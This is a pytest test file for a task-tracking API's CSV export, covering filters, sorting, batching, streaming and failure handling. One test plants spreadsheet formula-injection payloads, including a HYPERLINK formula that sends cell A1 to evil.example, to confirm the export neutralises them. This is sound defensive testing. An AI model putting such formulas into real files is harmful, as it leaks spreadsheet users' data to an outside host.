"""GET /api/tasks/export.csv: the list as a CSV file, every filter and sort, quoted formulas, keyset batches in
transactions of their own, and a million rows streamed in bounded memory."""

import csv
import http.client
import io
import logging
import sqlite3
import time
import tracemalloc
import uuid
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa

import routes.export
from app import create_app
from helpers import GUNICORN, assert_error, call, settings, token_for
from models import Task, User, db

HEADER = [
    "id", "date_created", "entity_name", "task_type", "task_time", "status", "contact_person_id", "contact_person",
    "note", "created_by_id", "created_by", "closed_at", "closed_by_id", "closed_by", "updated_at", "version",
]  # fmt: skip
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def exported(client, headers, query: str = "") -> list[list[str]]:
    """The export's rows, after checking its header row."""
    response = client.get(f"/api/tasks/export.csv?{query}", headers=headers)
    assert response.status_code == 200, response.get_data(as_text=True)
    rows = read_csv(response.get_data(as_text=True))
    assert rows[0] == HEADER
    return rows[1:]


def listed(client, headers, query: str = "") -> list[dict]:
    """Every task of the list for this query, page after page."""
    tasks, page = [], 1
    while True:
        response = client.get(f"/api/tasks?per_page=100&page={page}&{query}", headers=headers)
        assert response.status_code == 200, response.get_json()
        body = response.get_json()
        tasks += body["tasks"]
        if not body["pagination"]["has_next"]:
            return tasks
        page += 1


def as_row(task: dict) -> list[str]:
    """A task of the JSON list as the export writes it."""

    def person(key: str) -> list[str]:
        return [task[key]["id"], task[key]["full_name"]] if task[key] else ["", ""]

    return [
        task["id"], task["date_created"], task["entity_name"], task["task_type"], task["task_time"], task["status"],
        *person("contact_person"), task["note"] or "", *person("created_by"), task["closed_at"] or "",
        *person("closed_by"), task["updated_at"], str(task["version"]),
    ]  # fmt: skip


def ids(rows: list[list[str]]) -> list[str]:
    return [row[0] for row in rows]


def test_export_is_the_list_as_a_csv_attachment(app, client, auth_headers, make_task, make_user, user, other_user):
    leaver = make_user("leaver", full_name="Lee Leaver")
    bob, start = uuid.UUID(other_user["id"]), datetime(2025, 3, 1, 9, 30, tzinfo=UTC)
    make_task(date_created=start, note='Said "call back", then: nothing.\nTry again on Monday.')
    make_task(date_created=start + timedelta(hours=1), status="closed", closed_by_id=bob, entity_name="Müller GmbH")
    make_task(date_created=start + timedelta(hours=2, microseconds=250), contact_person_id=None, note="")
    make_task(date_created=start + timedelta(hours=3), created_by_id=None, task_type="Follow-up", contact_person_id=bob)
    make_task(date_created=start + timedelta(hours=4), contact_person_id=uuid.UUID(leaver["id"]))
    with app.app_context():
        db.session.delete(db.session.get(User, uuid.UUID(leaver["id"])))  # the assignee is gone: unassigned
        db.session.commit()
    before = datetime.now(UTC).date()

    response = client.get("/api/tasks/export.csv", headers=auth_headers)

    dates = {before, datetime.now(UTC).date()}
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] in {f'attachment; filename="tasks-{day}.csv"' for day in dates}
    assert response.headers["Cache-Control"] == "no-store"
    text = response.get_data(as_text=True)
    assert text.startswith(",".join(HEADER) + "\r\n")
    rows = read_csv(text)
    tasks = listed(client, auth_headers)
    assert rows == [HEADER, *map(as_row, tasks)]
    closed = rows[4]
    assert closed[HEADER.index("closed_by")] == "Bob Brown"
    assert closed[HEADER.index("closed_by_id")] == other_user["id"]
    assert datetime.fromisoformat(closed[HEADER.index("closed_at")]).utcoffset() == timedelta(0)
    assert rows[3][HEADER.index("date_created")] == "2025-03-01T11:30:00.000250+00:00"
    assert rows[2][HEADER.index("created_by")] == "" and rows[2][HEADER.index("contact_person")] == "Bob Brown"
    assert rows[1][6:8] == ["", ""]  # the deleted assignee
    assert rows[5][HEADER.index("note")] == 'Said "call back", then: nothing.\nTry again on Monday.'
    assert rows[5][6:8] == [user["id"], "Alice Adams"]


def test_export_leaves_out_deleted_tasks(client, auth_headers, make_task):
    kept = make_task()
    make_task(deleted_at=datetime.now(UTC))

    assert ids(exported(client, auth_headers)) == [kept["id"]]
    assert ids(exported(client, auth_headers, "status=open&sort_by=entity_name")) == [kept["id"]]


def test_export_of_no_tasks_is_the_header_alone(client, auth_headers, make_task):
    make_task(status="open")

    response = client.get("/api/tasks/export.csv?status=closed", headers=auth_headers)

    assert response.status_code == 200
    assert response.get_data(as_text=True) == ",".join(HEADER) + "\r\n"


@pytest.mark.parametrize("bom", ["true", "1", "yes"])
def test_export_for_excel_starts_with_a_byte_order_mark(client, auth_headers, make_task, bom):
    make_task(entity_name="Müller & Söhne", note="Zürich, naïve café")

    response = client.get(f"/api/tasks/export.csv?bom={bom}&status=open", headers=auth_headers)

    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf" + ",".join(HEADER).encode() + b"\r\n")
    rows = read_csv(data.decode("utf-8-sig"))  # what Excel reads: UTF-8, the mark dropped
    assert rows[1][HEADER.index("entity_name")] == "Müller & Söhne"
    assert rows[1][HEADER.index("note")] == "Zürich, naïve café"


@pytest.mark.parametrize("query", ["", "?bom=false", "?bom=0"])
def test_export_has_no_byte_order_mark_unless_asked(client, auth_headers, make_task, query):
    make_task(entity_name="Müller & Söhne")

    data = client.get(f"/api/tasks/export.csv{query}", headers=auth_headers).get_data()

    assert data.startswith(",".join(HEADER).encode())
    assert "Müller & Söhne".encode() in data


@pytest.fixture
def varied_tasks(make_task, user, other_user) -> None:
    """Tasks that each filter tells apart, in batches of 2 (so filters hold across batches)."""
    alice, bob = uuid.UUID(user["id"]), uuid.UUID(other_user["id"])
    start = datetime(2025, 3, 1, 12, tzinfo=UTC)
    for n, (entity, kind, person, status) in enumerate(
        [
            ("ABC Corporation", "Call", alice, "open"), ("abc corp", "Meeting", bob, "closed"),
            ("Zeta Holdings", "Follow-up call", alice, "closed"), ("100% Capital", "Email", None, "open"),
            ("Snake_Case Ltd", "CALL", bob, "open"), ("Corpus Trust", "Email", alice, "closed"),
            ("ABC Corporation", "Meeting", bob, "open"), ("Northwind", "Call", None, "closed"),
        ]
    ):  # fmt: skip
        make_task(date_created=start + timedelta(days=n), entity_name=entity, task_type=kind,
                  contact_person_id=person, status=status)  # fmt: skip


@pytest.mark.parametrize(
    "query",
    [
        "status=closed",
        "status=open",
        "task_type=call",
        "task_type=EMAIL",
        "entity_name=corp",
        "entity_name=100%25",
        "entity_name=_",
        "contact_person_id={bob}",
        "date_from=2025-03-04",
        "date_to=2025-03-03",
        "date_from=2025-03-02T12:00:00Z&date_to=2025-03-05",
        "status=open&task_type=call&entity_name=abc",
        "contact_person_id={alice}&status=closed&sort_by=entity_name&sort_order=asc",
    ],
)
def test_export_filters_as_the_list_does(client, auth_headers, varied_tasks, monkeypatch, user, other_user, query):
    monkeypatch.setattr(routes.export, "BATCH_SIZE", 2)
    query = query.format(alice=user["id"], bob=other_user["id"])

    rows = exported(client, auth_headers, query)

    assert 0 < len(rows) < 8
    assert rows == [as_row(task) for task in listed(client, auth_headers, query)]


@pytest.mark.parametrize("sort_by", ["date_created", "task_time", "entity_name", "task_type", "status", "updated_at"])
@pytest.mark.parametrize("sort_order", ["asc", "desc"])
def test_export_sorts_as_the_list_does_across_batches_and_ties(
    client, auth_headers, make_task, monkeypatch, sort_by, sort_order
):
    monkeypatch.setattr(routes.export, "BATCH_SIZE", 3)  # batches end inside runs of equal values
    moments = [datetime(2025, 5, 1, tzinfo=UTC) + timedelta(hours=n % 3) for n in range(11)]
    # Names equal but for case, and sharing prefixes: the text sorts ignore case, then break ties by id.
    names = ["abc", "ABC", "Abc Corp", "abd", "ABC", "abc", "Zeta", "zeta", "Ábc", "abc", "B"]
    kinds = ["call", "Call", "CALL", "Email", "email", "Meeting", "call", "Call", "Email", "meeting", "Call"]
    for n in range(11):
        make_task(
            date_created=moments[n], task_time=moments[(n + 1) % 11], updated_at=moments[(n + 2) % 11],
            entity_name=names[n], task_type=kinds[n], status="closed" if n % 2 else "open",
        )  # fmt: skip
    query = f"sort_by={sort_by}&sort_order={sort_order}"

    rows = exported(client, auth_headers, query)

    assert rows == [as_row(task) for task in listed(client, auth_headers, query)]
    assert len(set(ids(rows))) == 11


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_export_quotes_cells_a_spreadsheet_would_run_as_formulas(client, auth_headers, make_task, make_user, start):
    mallory = make_user("mallory", full_name=f"{start}Mallory")
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    task = make_task(
        entity_name=f"{start}1+2", task_type=f"{start}cmd", note=formula, contact_person_id=uuid.UUID(mallory["id"])
    )

    [row] = exported(client, auth_headers)

    cells = dict(zip(HEADER, row, strict=True))
    assert cells["entity_name"] == f"'{start}1+2"
    assert cells["task_type"] == f"'{start}cmd"
    assert cells["note"] == "'" + formula
    assert cells["contact_person"] == f"'{start}Mallory"
    assert cells["id"] == task["id"] and cells["contact_person_id"] == mallory["id"]


def test_export_leaves_other_cells_as_they_are(client, auth_headers, make_task, make_user):
    ordinary = ["ABC Corporation", "a=b", " =1+2", "'quoted", "1+1", "(555) 123", "Müller & Söhne", "\u22125", "#REF!"]
    person = make_user("plain", full_name="O'Brien, Jr.")
    for n, value in enumerate(ordinary):
        make_task(entity_name=value, task_type=value[:50], note=value, contact_person_id=uuid.UUID(person["id"]),
                  date_created=datetime(2025, 1, 1, tzinfo=UTC) + timedelta(minutes=n))  # fmt: skip

    rows = exported(client, auth_headers, "sort_by=date_created&sort_order=asc")

    for value, row in zip(ordinary, rows, strict=True):
        cells = dict(zip(HEADER, row, strict=True))
        assert (cells["entity_name"], cells["task_type"], cells["note"]) == (value, value, value)
        assert cells["contact_person"] == "O'Brien, Jr."


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("sort_by=password_hash", "sort_by"),
        ("sort_by=contact_person", "sort_by"),
        ("sort_order=up", "sort_order"),
        ("status=done", "status"),
        ("contact_person_id=42", "contact_person_id"),
        ("date_to=2025-02-30", "date_to"),
        ("date_from=2025-07-02&date_to=2025-07-01", "date_from"),
        ("entity_name=%00", "entity_name"),
        ("page=2", "page"),
        ("per_page=1000", "per_page"),
        ("cursor=abc", "cursor"),
        ("colour=red", "colour"),
        ("status=open&status=closed", "status"),
        ("bom=maybe", "bom"),
        ("bom=true&bom=false", "bom"),
    ],
)
def test_export_rejects_bad_parameters_before_it_starts(client, auth_headers, make_task, query, parameter):
    make_task()

    response = client.get(f"/api/tasks/export.csv?{query}", headers=auth_headers)

    assert_error(response, 400, parameter)
    assert response.headers["Content-Type"] == "application/json"


def test_export_requires_a_token(client):
    assert_error(client.get("/api/tasks/export.csv"), 401)


@pytest.mark.parametrize(("tasks", "batches"), [(0, 1), (2, 1), (3, 2), (7, 3), (9, 4)])
def test_export_reads_a_batch_per_statement(
    client, auth_headers, make_task, monkeypatch, sql_statements, tasks, batches
):
    monkeypatch.setattr(routes.export, "BATCH_SIZE", 3)
    for _ in range(tasks):
        make_task()

    with sql_statements() as statements:
        rows = exported(client, auth_headers)

    assert len(rows) == tasks
    reads = [statement for statement in statements if "tasks" in statement]
    assert len(reads) == batches  # a batch shorter than BATCH_SIZE is the last: no statement to find nothing
    assert all("JOIN app_users" in statement and "LIMIT" in statement for statement in reads)


@pytest.fixture
def database_events(app):
    """``with database_events() as events:`` records "read" for each SELECT of tasks and "end" for each commit
    (a savepoint's release, in the PostgreSQL run's transaction per test)."""

    class Recording:
        def __enter__(self):
            self.events = []
            with app.app_context():
                self.engine = db.engine
            self.listeners = [
                ("before_cursor_execute", self.statement), ("commit", self.ended), ("release_savepoint", self.ended),
            ]  # fmt: skip
            for name, listener in self.listeners:
                sa.event.listen(self.engine, name, listener)
            return self.events

        def statement(self, _connection, _cursor, statement, *_args):
            if statement.lstrip().startswith("SELECT") and "FROM tasks" in statement:
                self.events.append("read")

        def ended(self, *_args):
            self.events.append("end")

        def __exit__(self, *_exc):
            for name, listener in self.listeners:
                sa.event.remove(self.engine, name, listener)

    return Recording


def test_export_commits_each_batch_before_sending_it(client, auth_headers, make_task, monkeypatch, database_events):
    monkeypatch.setattr(routes.export, "BATCH_SIZE", 2)
    for _ in range(5):
        make_task()

    with database_events() as events:
        response = client.get("/api/tasks/export.csv", headers=auth_headers, buffered=False)
        chunks = iter(response.response)
        seen_before_first_chunk = events.copy()
        next(chunks)
        list(chunks)
        response.close()

    reads = [index for index, event in enumerate(events) if event == "read"]
    assert len(reads) == 3
    assert all(events[index + 1] == "end" for index in reads)
    assert seen_before_first_chunk.count("read") == 1  # the first batch in the view: a database down is a 503


def test_export_holds_no_transaction_while_the_client_reads(fresh_database_url, tmp_path, monkeypatch):
    """Between batches the export holds nothing: a writer that needs the tasks to itself gets them at once (on
    SQLite the write lock, which any transaction there takes; on PostgreSQL an exclusive lock on the table, which
    an open transaction that read it would block). A database of its own: the PostgreSQL run's test transaction
    would hold the table itself."""
    monkeypatch.setattr(routes.export, "BATCH_SIZE", 2)
    app = create_app(settings(fresh_database_url, tmp_path))
    with app.app_context():
        db.create_all()
        user = User(username="alice", email="alice@example.com", full_name="Alice", is_active=True)
        user.set_password("correct-horse-battery")
        db.session.add(user)
        db.session.flush()
        for n in range(5):
            db.session.add(Task(entity_name=f"E{n}", task_type="Call", task_time=datetime.now(UTC), created_by=user))
        db.session.commit()
        headers = {"Authorization": f"Bearer {token_for(app, str(user.id))}"}
    client = app.test_client()
    response = client.get("/api/tasks/export.csv", headers=headers, buffered=False)
    chunks = iter(response.response)
    # The client reads two batches (the second one read by the stream itself, after the view), one is to come.
    received = [next(chunks), next(chunks)]

    if fresh_database_url.startswith("sqlite"):
        writer = sqlite3.connect(sa.make_url(fresh_database_url).database, timeout=0, isolation_level=None)
        writer.execute("BEGIN IMMEDIATE")  # "database is locked" if the export held a transaction open
        writer.execute("ROLLBACK")
        writer.close()
    else:
        engine = sa.create_engine(fresh_database_url)
        with engine.begin() as writer:  # "could not obtain lock" if the export held a transaction open
            writer.exec_driver_sql("LOCK TABLE tasks IN ACCESS EXCLUSIVE MODE NOWAIT")
        engine.dispose()
    assert len(read_csv(b"".join([*received, *chunks]).decode())) == 1 + 5
    response.close()
    with app.app_context():
        db.engine.dispose()


class FailingReads:
    """Makes the ``nth`` SELECT of tasks fail as a lost connection would."""

    def __init__(self, app, nth: int):
        self.nth, self.reads = nth, 0
        with app.app_context():
            self.engine = db.engine

    def __call__(self, _connection, _cursor, statement, *_args):
        if "FROM tasks" in statement:
            self.reads += 1
            if self.reads == self.nth:
                raise sa.exc.OperationalError(statement, None, Exception("server closed the connection unexpectedly"))

    def __enter__(self):
        sa.event.listen(self.engine, "before_cursor_execute", self)

    def __exit__(self, *_exc):
        sa.event.remove(self.engine, "before_cursor_execute", self)


def test_export_breaks_off_and_logs_when_the_database_fails_mid_stream(
    app, client, auth_headers, make_task, monkeypatch, caplog
):
    monkeypatch.setattr(routes.export, "BATCH_SIZE", 2)
    for _ in range(5):
        make_task()

    with FailingReads(app, nth=2), caplog.at_level(logging.ERROR, logger="routes.export"):
        response = client.get("/api/tasks/export.csv", headers=auth_headers, buffered=False)
        assert response.status_code == 200  # sent before the failure
        chunks = iter(response.response)
        received = next(chunks).decode()
        # The failure reaches the server, which drops the connection before the body's end: a failed download
        # for the client, never a file that looks whole.
        with pytest.raises(sa.exc.SQLAlchemyError):
            next(chunks)
        response.close()

    assert len(read_csv(received)) == 1 + 2
    [record] = [record for record in caplog.records if record.name == "routes.export"]
    assert record.levelno == logging.ERROR and record.exc_info is not None
    assert "after 2 rows" in record.getMessage()
    assert len(exported(client, auth_headers)) == 5  # the next export is whole


def test_export_is_a_503_when_the_database_fails_before_it_starts(app, client, auth_headers, make_task):
    make_task()

    with FailingReads(app, nth=1):
        response = client.get("/api/tasks/export.csv", headers=auth_headers)

    assert_error(response, 503)


MILLION = 1_000_000
# Generated in the database, a second or two per 100,000 rows: 60 s apart, a quarter unassigned, half closed (by
# bob), two in five with a note that needs quoting. Ids count up, so the indexes fill at one end.
SEED_POSTGRESQL = """
INSERT INTO tasks (id, date_created, entity_name, task_type, task_time, contact_person_id, note, status,
                   created_by_id, updated_at, closed_at, closed_by_id)
SELECT lpad(to_hex(i), 32, '0')::uuid, t, 'Entity ' || (i % 1000) || ' Holdings',
       CASE i % 3 WHEN 0 THEN 'Call' WHEN 1 THEN 'Email' ELSE 'Meeting' END, t + interval '1 day',
       CASE i % 4 WHEN 0 THEN NULL WHEN 1 THEN CAST(:bob AS uuid) ELSE CAST(:alice AS uuid) END,
       CASE WHEN i % 5 < 2 THEN 'Left a voicemail, will try again tomorrow.' END,
       CASE i % 2 WHEN 0 THEN 'closed' ELSE 'open' END, CAST(:alice AS uuid), t + interval '2 days',
       CASE i % 2 WHEN 0 THEN t + interval '2 days' END, CASE i % 2 WHEN 0 THEN CAST(:bob AS uuid) END
FROM generate_series(:first, :last) AS i,
     LATERAL (SELECT timestamptz '2020-01-01 00:00:00+00' + i * interval '1 minute' AS t) AS moment
"""
SEED_SQLITE = """
WITH RECURSIVE n(i) AS (SELECT :first UNION ALL SELECT i + 1 FROM n WHERE i < :last),
moment(i, t) AS (SELECT i, 1577836800 + i * 60 FROM n)
INSERT INTO tasks (id, date_created, entity_name, task_type, task_time, contact_person_id, note, status,
                   created_by_id, updated_at, closed_at, closed_by_id)
SELECT printf('%032x', i), datetime(t, 'unixepoch') || '.000000', 'Entity ' || (i % 1000) || ' Holdings',
       CASE i % 3 WHEN 0 THEN 'Call' WHEN 1 THEN 'Email' ELSE 'Meeting' END,
       datetime(t + 86400, 'unixepoch') || '.000000',
       CASE i % 4 WHEN 0 THEN NULL WHEN 1 THEN :bob ELSE :alice END,
       CASE WHEN i % 5 < 2 THEN 'Left a voicemail, will try again tomorrow.' END,
       CASE i % 2 WHEN 0 THEN 'closed' ELSE 'open' END, :alice, datetime(t + 172800, 'unixepoch') || '.000000',
       CASE i % 2 WHEN 0 THEN datetime(t + 172800, 'unixepoch') || '.000000' END,
       CASE i % 2 WHEN 0 THEN :bob END
FROM moment
"""


def insert_tasks(count: int, alice: uuid.UUID, bob: uuid.UUID) -> None:
    """``count`` tasks, generated by the database, in the session's transaction: an INSERT ... SELECT per 100,000,
    each well inside PostgreSQL's statement timeout."""
    if db.session.get_bind().dialect.name == "postgresql":
        statement, people = SEED_POSTGRESQL, {"alice": str(alice), "bob": str(bob)}
    else:  # SQLAlchemy keeps SQLite's UUIDs as 32 hex digits
        statement, people = SEED_SQLITE, {"alice": alice.hex, "bob": bob.hex}
    for first in range(1, count + 1, 100_000):
        db.session.execute(sa.text(statement), {"first": first, "last": min(first + 99_999, count), **people})
    if db.session.get_bind().dialect.name == "postgresql":
        # As autovacuum would by now. A table never analyzed looks empty to the planner, which then sorts every
        # row left for each batch instead of reading the next thousand from the index.
        db.session.execute(sa.text("ANALYZE tasks"))


def drop_indexes_but(kept: str) -> None:
    """Drop the tasks' indexes but ``kept`` (and the primary key), in the session's transaction: a test of a read
    that needs no other need not pay for their upkeep while it seeds (a million rows on PostgreSQL: 18 s instead of
    50). Rolled back with the PostgreSQL run's transaction per test; SQLite's file is the test's own."""
    for index in Task.__table__.indexes:
        if index.name != kept:
            db.session.execute(sa.text(f"DROP INDEX IF EXISTS {index.name}"))


@pytest.mark.slow  # a minute of one core: not in `make check`
def test_export_streams_a_million_rows_in_bounded_memory(app, client, auth_headers, user, other_user):
    """The export never holds more than a batch: a million rows, a CSV of 293 MB, stream with a peak of 5.9 MB of
    Python memory (tracemalloc) on SQLite and 5.8 MB on PostgreSQL: flat, about what 20,000 rows take.

    Measured on 2 shared cores: SQLite 62 s in all (seeding 7.5 s, streaming 53 s: 19,000 rows/s, half the speed
    without tracemalloc); PostgreSQL 74 s (seeding 18 s, streaming 56 s)."""
    started = time.perf_counter()
    with app.app_context():
        drop_indexes_but("ix_tasks_date_created_id")  # the default sort's
        insert_tasks(MILLION, uuid.UUID(user["id"]), uuid.UUID(other_user["id"]))
        db.session.commit()
    seeded = time.perf_counter()
    newest = as_row(client.get("/api/tasks?per_page=1", headers=auth_headers).get_json()["tasks"][0])
    oldest = as_row(client.get("/api/tasks?per_page=1&sort_order=asc", headers=auth_headers).get_json()["tasks"][0])

    tracemalloc.start()
    try:
        response = client.get("/api/tasks/export.csv", headers=auth_headers, buffered=False)
        assert response.status_code == 200
        lines = size = chunks = 0
        first = last = b""
        for chunk in response.response:
            lines += chunk.count(b"\r\n")  # no note holds one: a line per row
            size += len(chunk)
            chunks += 1
            first = first or chunk[:4096]
            last = chunk
        response.close()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    streamed = time.perf_counter()

    assert lines == MILLION + 1
    assert chunks == MILLION // routes.export.BATCH_SIZE  # a batch at a time
    assert read_csv(first.decode())[:2] == [HEADER, newest]
    assert read_csv(last.decode())[-1] == oldest
    assert size > 250_000_000
    assert peak < 20_000_000, f"peak {peak / 1e6:.1f} MB"
    print(
        f"\nseeded {MILLION} in {seeded - started:.1f} s; streamed {size / 1e6:.0f} MB in {streamed - seeded:.1f} s "
        f"({MILLION / (streamed - seeded):,.0f} rows/s, under tracemalloc); peak {peak / 1e6:.1f} MB"
    )


def test_a_slow_download_through_gunicorn_outlives_the_worker_timeout(servers, environment, fresh_database_url):
    """A sync worker streaming an export is busy, not stuck: it tells gunicorn so at every batch, so a download
    that takes longer than the worker timeout (5 s here, 30 s by default) is not killed half way. Without that
    heartbeat gunicorn kills the worker after 5 s and the download breaks off."""
    rows = 40_000  # about 12 MB: more than the loopback's socket buffers hold, so the server waits for the reader
    server = servers.start([*GUNICORN, "--workers", "1"], environment | {"GUNICORN_TIMEOUT": "5"})
    token = call("POST", f"{server.url}/api/auth/login", {"username": "admin", "password": "admin123"})[1][
        "access_token"
    ]
    admin = uuid.UUID(call("GET", f"{server.url}/api/auth/me", token=token)[1]["user"]["id"])
    engine = sa.create_engine(fresh_database_url)
    with engine.begin() as connection:
        postgresql = connection.dialect.name == "postgresql"
        people = {"alice": str(admin), "bob": str(admin)} if postgresql else {"alice": admin.hex, "bob": admin.hex}
        seed = SEED_POSTGRESQL if postgresql else SEED_SQLITE
        connection.execute(sa.text(seed), {"first": 1, "last": rows, **people})
    engine.dispose()

    started = time.monotonic()
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    connection.request("GET", "/api/tasks/export.csv", headers={"Authorization": f"Bearer {token}"})
    response = connection.getresponse()
    lines = 0
    while chunk := response.read(100_000):  # about 1 MB/s
        lines += chunk.count(b"\r\n")
        time.sleep(0.1)
    connection.close()

    assert time.monotonic() - started > 2 * 5  # the worker streamed for longer than its timeout...
    assert lines == 1 + rows  # ...and the whole file came
    server.stop()
    log = server.log.read_text()
    assert "WORKER TIMEOUT" not in log and "Traceback" not in log
